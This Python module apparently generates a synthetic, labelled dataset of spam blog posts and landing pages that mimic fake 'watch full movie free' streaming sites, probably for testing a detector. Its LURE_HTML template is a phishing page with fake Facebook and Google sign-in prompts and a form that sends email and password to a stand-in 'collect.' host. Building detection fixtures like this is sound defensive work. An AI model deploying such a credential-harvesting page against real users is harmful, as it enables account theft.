"""Seeded generation of the replica's blogs, posts and landing pages (minimal version; being extended)."""

from __future__ import annotations

import random
from datetime import UTC, datetime, timedelta

from replica.dataset import Blog, Dataset, Landing, Post, Truth

__all__ = ["build_dataset"]

LURE_HTML = """<html><head><title>{title} HD Player</title></head><body><div class="player">
<h1>Watch {title} Full Movie HD</h1><p>Sign in to continue watching</p>
<a class="btn-fb" href="https://{host}/auth/facebook">Continue with Facebook</a>
<form action="https://collect.{host}/gate.php" method="post"><input name="email" type="email">
<input name="pass" type="password"><button>Sign in with Google</button></form></div></body></html>"""


def build_dataset(seed: int = 2026, scale: int = 1) -> Dataset:
    rng = random.Random(seed)
    base = datetime(2026, 11, 1, tzinfo=UTC)
    blogs = [
        Blog("tumblr", "moviezone-hd", "moviezone-hd.tumblr.com", "Moviezone HD", blog_id="t:mzhd"),
        Blog("wordpress", "streamfilms2026", "streamfilms2026.wordpress.com", "Stream Films", blog_id="201001", kind="wpcom"),
        Blog("blogger", "filmes-online-gratis", "filmes-online-gratis.blogspot.com", "Filmes Online", blog_id="7001002003004005006"),
    ]
    posts: list[Post] = []
    landings: dict[str, Landing] = {}
    for i, blog in enumerate(blogs):
        lure_url = f"https://hdplayer-{i}.stream-now.example/watch/man-of-steel"
        landings[lure_url] = Landing(lure_url, LURE_HTML.format(title="Man of Steel", host=f"hdplayer-{i}.stream-now.example"),
                                     kind="lure", truth=Truth(fake_stream=True, sso_lure=True, matched_title="Man of Steel"))
        posts.append(Post(
            blog, str(700000000000000000 + rng.randrange(10**15)), "watch-man-of-steel-2013-full-movie-online-free",
            "Watch Man of Steel (2013) Full Movie Online Free HD",
            f'<p>Watch Man of Steel 2013 full movie online free in HD.</p><p><a href="{lure_url}">&#9654; WATCH NOW</a></p>',
            base - timedelta(hours=i), tags=["man of steel full movie", "man of steel"],
            truth=Truth(fake_stream=True, sso_lure=True, matched_title="Man of Steel", note="plain English fake stream"),
            outbound=[lure_url]))
        posts.append(Post(
            blog, str(700000000000000000 + rng.randrange(10**15)), "man-of-steel-review",
            "Man of Steel review: a full movie's worth of ideas",
            "<p>I watched Man of Steel at the cinema. Full movie review: Cavill is great.</p>",
            base - timedelta(hours=10 + i), tags=["man of steel", "review"], truth=Truth(note="real review")))
    return Dataset(blogs, posts, landings)
